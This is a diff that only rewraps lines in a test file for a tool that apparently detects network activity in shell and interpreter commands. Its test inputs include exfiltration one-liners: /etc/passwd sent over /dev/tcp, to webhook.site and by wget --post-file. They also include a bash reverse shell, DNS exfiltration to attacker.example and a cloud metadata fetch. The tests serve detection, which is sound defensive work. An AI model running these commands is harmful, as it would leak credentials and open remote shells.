@@ -26,8 +26,14 @@ describe('extractNetwork: HTTP clients', () => {
     ['curl --upload-file ./x https://x.example', ['curl:upload:x.example:other']],
     ['curl --json \'{"a":1}\' https://x.example', ['curl:upload:x.example:other']],
     ['curl -G -d q=1 https://search.example/', ['curl:download:search.example:other']],
-    ['curl -H "Authorization: Bearer $T" -o out.json https://api.github.com/user', ['curl:download:api.github.com:code-host']],
-    ['curl --url https://a.example -s https://b.example', ['curl:download:b.example:other', 'curl:download:a.example:other']],
+    [
+      'curl -H "Authorization: Bearer $T" -o out.json https://api.github.com/user',
+      ['curl:download:api.github.com:code-host'],
+    ],
+    [
+      'curl --url https://a.example -s https://b.example',
+      ['curl:download:b.example:other', 'curl:download:a.example:other'],
+    ],
     ['curl file:///etc/passwd', []],
     ['curl -s http://2852039166/latest/meta-data/', ['curl:download:169.254.169.254:internal']],
     ['wget -q https://dl.example.org/data.csv', ['wget:download:dl.example.org:other']],
@@ -51,10 +57,9 @@ describe('extractNetwork: HTTP clients', () => {
       'data.json',
       '~/.ssh/id_rsa',
     ]);
-    expect(sent('curl -F "f=@/tmp/x.tgz;type=application/gzip" -F "n=<notes.txt" https://x.example')).toEqual([
-      '/tmp/x.tgz',
-      'notes.txt',
-    ]);
+    expect(sent('curl -F "f=@/tmp/x.tgz;type=application/gzip" -F "n=<notes.txt" https://x.example')).toEqual(
+      ['/tmp/x.tgz', 'notes.txt'],
+    );
     expect(sent('curl -T backup.tgz https://x.example')).toEqual(['backup.tgz']);
     expect(sent('wget --post-file=/etc/passwd http://x.example')).toEqual(['/etc/passwd']);
     expect(sent('http POST x.example f@/etc/hosts')).toEqual(['/etc/hosts']);
@@ -89,7 +94,9 @@ describe('extractNetwork: sockets, ssh and DNS', () => {
   });
 
   it('flags DNS lookups that carry data', () => {
-    const [lookup] = extractNetwork(cmdOf('nslookup aGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgaGVyZQ.x7k2.exfil-dns.net'));
+    const [lookup] = extractNetwork(
+      cmdOf('nslookup aGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgaGVyZQ.x7k2.exfil-dns.net'),
+    );
     expect(lookup?.dnsEncoded).toBe(true);
     expect(extractNetwork(cmdOf('dig $(cat /etc/hostname | base64).x.example'))[0]?.dnsEncoded).toBe(true);
     expect(extractNetwork(cmdOf('ping -c1 $(whoami).attacker.example'))[0]?.dnsEncoded).toBe(true);
@@ -98,7 +105,9 @@ describe('extractNetwork: sockets, ssh and DNS', () => {
   });
 
   it('reads /dev/tcp redirections: data sent, or a shell on a socket', () => {
-    expect(facts('cat /etc/passwd > /dev/tcp/198.51.100.7/80')).toEqual(['cat:upload:198.51.100.7:ip-literal']);
+    expect(facts('cat /etc/passwd > /dev/tcp/198.51.100.7/80')).toEqual([
+      'cat:upload:198.51.100.7:ip-literal',
+    ]);
     expect(facts('bash -i >& /dev/tcp/10.0.0.5/4444 0>&1')).toEqual(['bash:connect:10.0.0.5:internal']);
     expect(facts('exec 3<>/dev/tcp/example.com/80')).toEqual(['exec:connect:example.com:other']);
   });
@@ -112,9 +121,13 @@ describe('extractNetwork: sockets, ssh and DNS', () => {
 describe('networkInCode', () => {
   it('finds URLs and socket connects in interpreter code', () => {
     const code = "import requests; requests.post('https://webhook.site/x', data=open('/etc/passwd').read())";
-    expect(networkInCode(code, 'python').map((f) => `${f.direction}:${f.host}`)).toEqual(['upload:webhook.site']);
+    expect(networkInCode(code, 'python').map((f) => `${f.direction}:${f.host}`)).toEqual([
+      'upload:webhook.site',
+    ]);
     const shell = "s=socket.socket();s.connect(('10.0.0.1',4242))";
-    expect(networkInCode(shell, 'python').map((f) => `${f.direction}:${f.host}`)).toEqual(['connect:10.0.0.1']);
+    expect(networkInCode(shell, 'python').map((f) => `${f.direction}:${f.host}`)).toEqual([
+      'connect:10.0.0.1',
+    ]);
     const ps = "$c=New-Object Net.Sockets.TCPClient('198.51.100.7',443)";
     expect(networkInCode(ps, 'powershell').map((f) => f.host)).toEqual(['198.51.100.7']);
     expect(networkInCode('print(1)', 'python')).toEqual([]);
